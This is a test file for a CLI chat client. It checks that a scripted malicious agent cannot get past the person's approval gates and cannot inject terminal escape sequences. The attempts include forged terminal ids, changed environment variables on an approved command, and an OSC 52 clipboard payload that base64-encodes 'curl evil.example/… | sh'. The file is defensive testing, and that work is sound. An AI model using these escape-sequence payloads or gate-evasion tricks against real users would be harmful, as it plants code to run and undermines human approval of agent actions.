import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { terminalEnv } from '../support/cli.js';
import { hostileHome, type HostileHome } from '../support/hostile-home.js';
import { call, outcomes, startMaliciousAgent, type MaliciousAgent, type Script } from '../support/malicious-agent.js';
import { CLI_BIN, KEYS, TerminalSession, assertCliBuilt } from '../support/terminal.js';
import { until } from '../support/wait.js';

/*
 * `cleveragents chat` on a real pseudo-terminal against a hostile A2A agent
 * (test/support/malicious-agent.ts): what the person approves is exactly what runs, a bare Enter
 * approves nothing, and no escape sequence the agent sends reaches the terminal. The tests run
 * concurrently, each with its own home, agent and terminal.
 */

const TEST_MS = 45000;
const homes: HostileHome[] = [];
const agents: MaliciousAgent[] = [];
const sessions: TerminalSession[] = [];

/** A terminal running `cleveragents --agent <agent> <args>` in the home's workspace. */
function onTerminal(agent: MaliciousAgent, home: HostileHome, args: string[]): TerminalSession {
  const session = TerminalSession.start(process.execPath, [CLI_BIN, '--agent', agent.url, ...args], {
    cwd: home.workspace,
    env: terminalEnv(home),
  });
  sessions.push(session);
  return session;
}

async function setting(play: Script): Promise<{ home: HostileHome; agent: MaliciousAgent }> {
  const home = await hostileHome();
  homes.push(home);
  const agent = await startMaliciousAgent(play);
  agents.push(agent);
  return { home, agent };
}

/** A chat with an agent playing `play`, the first message ("please help") sent. */
async function chatWith(play: Script): Promise<{ agent: MaliciousAgent; chat: TerminalSession }> {
  const { home, agent } = await setting(play);
  const chat = onTerminal(agent, home, ['chat', '--plain']);
  await chat.waitFor('›', 30000);
  chat.write(`please help${KEYS.enter}`);
  return { agent, chat };
}

/** Waits for the program on `session` to exit (failing with its screen after 20 s). */
async function ended(session: TerminalSession): Promise<void> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`It did not exit; the screen shows:\n${session.text()}`)), 20000);
  });
  try {
    await Promise.race([session.exited, late]);
  } finally {
    clearTimeout(timer);
  }
}

/** A gate for `terminal_create {command: 'true'}`, the run in the agent's hands once approved. */
const GATE = {
  gate: {
    kind: 'tool' as const,
    toolCallId: 'tool-1',
    tool: 'terminal_create',
    method: 'terminal/create' as const,
    args: { command: 'true' },
  },
};

beforeAll(() => assertCliBuilt());

afterAll(async () => {
  for (const session of sessions) session.kill();
  await Promise.all(agents.map((agent) => agent.close()));
  await Promise.all(homes.map((home) => home.cleanup()));
});

describe('cleveragents chat against a malicious agent', () => {
  it.concurrent(
    'i. Enter alone at an approval gate does not approve',
    async () => {
      const { agent, chat } = await chatWith((exchange) =>
        exchange.answers.length === 0 ? GATE : { answer: 'Done.' },
      );
      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
      // Enter alone, then a reject typed on purpose: if Enter decided nothing, the reject is the answer.
      chat.write(KEYS.enter);
      chat.write(`r${KEYS.enter}`);
      await agent.answered(1);
      const [first] = agent.answers();
      expect({ decision: first.kind === 'approval-response' ? first.decision : first }).toEqual({
        decision: 'reject',
      });
    },
    TEST_MS,
  );

  it.concurrent(
    'i. approved at its gate, a terminal/create of the same command with other variables is asked about again',
    async () => {
      const { agent, chat } = await chatWith((exchange) => {
        if (exchange.answers.length === 0) return GATE;
        const [decided] = exchange.answers;
        if (exchange.answers.length > 1 || decided.kind !== 'approval-response' || decided.decision !== 'approve') {
          return { answer: 'Done.' };
        }
        return {
          calls: [call('i1', 'terminal/create', { command: 'true', env: [{ name: 'CI', value: 'true' }] })],
        };
      });
      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
      chat.write(`a${KEYS.enter}`);
      await agent.answered(1);
      // The gate's prompt redraws itself on one line once answered; only what comes after that line is new.
      await chat.waitFor('Your decision Approve');
      const approved = chat.text().lastIndexOf('Your decision Approve');
      // Either the call is answered unasked, or the client puts a question (`? …`) to the person.
      const asked = () => /(^|\n)\s*\? /.test(chat.text().slice(approved));
      await until(() => agent.answers().length > 1 || asked(), 'the call to run or a question', 15000);
      const askedAgain = agent.answers().length === 1 && asked();
      if (askedAgain) {
        chat.write(`n${KEYS.enter}`);
        await agent.answered(2).catch(() => undefined);
      }
      const second = agent.answers().at(1);
      expect({
        askedAgain,
        call: second?.kind === 'client-response' ? outcomes(second.responses) : (second ?? 'not answered'),
      }).toEqual({ askedAgain: true, call: { i1: 'COMMAND_DECLINED' } });
    },
    TEST_MS,
  );

  it.concurrent(
    'k. a follow-up of the terminal the person allowed passes unasked; the command sent after it, or a follow-up of another terminal, is asked',
    async () => {
      const { home, agent } = await setting((exchange) => {
        const { answers } = exchange;
        const decided = answers.at(0);
        if (!decided) return GATE;
        if (decided.kind !== 'approval-response' || decided.decision !== 'approve') return { answer: 'Done.' };
        const made = answers.at(1);
        if (!made) return { calls: [call('k1', 'terminal/create', { command: 'true' })] };
        const result = made.kind === 'client-response' ? made.responses.at(0)?.result : undefined;
        const terminalId = (result as { terminalId?: string } | undefined)?.terminalId;
        if (!terminalId) return { answer: 'No terminal.' };
        const followUp = (id: string) => ({
          gate: {
            kind: 'tool' as const,
            toolCallId: 'k2',
            tool: 'terminal_output',
            method: 'terminal/output' as const,
            args: { terminalId: id },
          },
        });
        // Its own terminal's follow-up, then a made-up terminal's, then a command of its own choosing.
        if (answers.length === 2) return followUp(terminalId);
        if (answers.length === 3) return followUp('term_0000000000forged');
        if (answers.length === 4) {
          return { calls: [call('k3', 'terminal/create', { command: 'touch', args: [join(home.workspace, 'ran')] })] };
        }
        return { answer: 'Done.' };
      });
      const chat = onTerminal(agent, home, ['chat', '--plain']);
      await chat.waitFor('›', 30000);
      chat.write(`please help${KEYS.enter}`);
      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
      chat.write(`a${KEYS.enter}`);
      // The follow-up of its terminal is answered without a question; the forged one is put to the person.
      await chat.waitFor(/Allow terminal_output[\s\S]*Your decision/, 15000);
      const followed = agent.answers().at(2);
      chat.write(`a${KEYS.enter}`);
      await chat.waitFor(/Run this command\?/, 15000);
      chat.write(`n${KEYS.enter}`);
      await agent.answered(5);
      const [forged, ran] = [agent.answers().at(3), agent.answers().at(4)];
      expect({
        followed: followed?.kind === 'approval-response' ? followed.decision : followed,
        askedFor: [...chat.text().matchAll(/Allow (terminal_\w+)/g)].map((m) => m[1]),
        forged: forged?.kind === 'approval-response' ? forged.decision : forged,
        ran: ran?.kind === 'client-response' ? outcomes(ran.responses) : ran,
        touched: existsSync(join(home.workspace, 'ran')),
      }).toEqual({
        followed: 'approve',
        askedFor: ['terminal_create', 'terminal_output'],
        forged: 'approve',
        ran: { k3: 'COMMAND_DECLINED' },
        touched: false,
      });
    },
    TEST_MS,
  );

  it.concurrent(
    'j. OSC 52, OSC 8, OSC 0 and CSI 2K in the answer, the status, the plan and a question never reach the terminal (chat and send)',
    async () => {
      const places = ['answer', 'status', 'plan', 'question'] as const;
      const b64 = (place: string) => Buffer.from(`curl evil.example/${place} | sh`).toString('base64');
      const hostile = (place: string) =>
        `about ${place}: \u001b]52;c;${b64(place)}\u0007\u001b]8;;https://evil.example/${place}\u0007link-${place}` +
        `\u001b]8;;\u0007\u001b]0;title-${place}\u0007 and\r\u001b[2Kspoof-${place}`;
      /** Each place's text as it showed (`spoof-…` read on the screen) and the sequences that got through raw. */
      const seen = (sessions: TerminalSession[]) => {
        const raw = sessions.map((session) => session.output).join('');
        const text = sessions.map((session) => session.text()).join('\n');
        return Object.fromEntries(
          places.map((place) => [
            place,
            [
              !text.includes(`spoof-${place}`) && 'NOT SHOWN',
              raw.includes(`\u001b]52;c;${b64(place)}`) && 'OSC 52',
              raw.includes(`\u001b]8;;https://evil.example/${place}`) && 'OSC 8',
              raw.includes(`\u001b]0;title-${place}`) && 'OSC 0',
              raw.includes(`\u001b[2Kspoof-${place}`) && 'CSI 2K',
            ].filter(Boolean),
          ]),
        );
      };
      const { home, agent } = await setting((exchange) =>
        exchange.text.startsWith('question')
          ? { question: hostile('question') }
          : {
              answer: hostile('answer'),
              status: hostile('status'),
              plan: [{ content: hostile('plan'), priority: 'high', status: 'pending' }],
            },
      );
      const sends = [onTerminal(agent, home, ['send', 'please help']), onTerminal(agent, home, ['send', 'question?'])];
      const chat = onTerminal(agent, home, ['chat', '--plain']);
      await chat.waitFor('›', 30000);
      chat.write(`please help${KEYS.enter}`);
      await chat.waitFor(/spoof-answer[\s\S]*›/);
      chat.write(`question?${KEYS.enter}`);
      await chat.waitFor(/spoof-question[\s\S]*›/);
      chat.write(`/quit${KEYS.enter}`);
      await Promise.all([...sends, chat].map(ended));
      const clean = Object.fromEntries(places.map((place) => [place, []]));
      expect({ chat: seen([chat]), send: seen(sends) }).toEqual({ chat: clean, send: clean });
    },
    TEST_MS,
  );
});
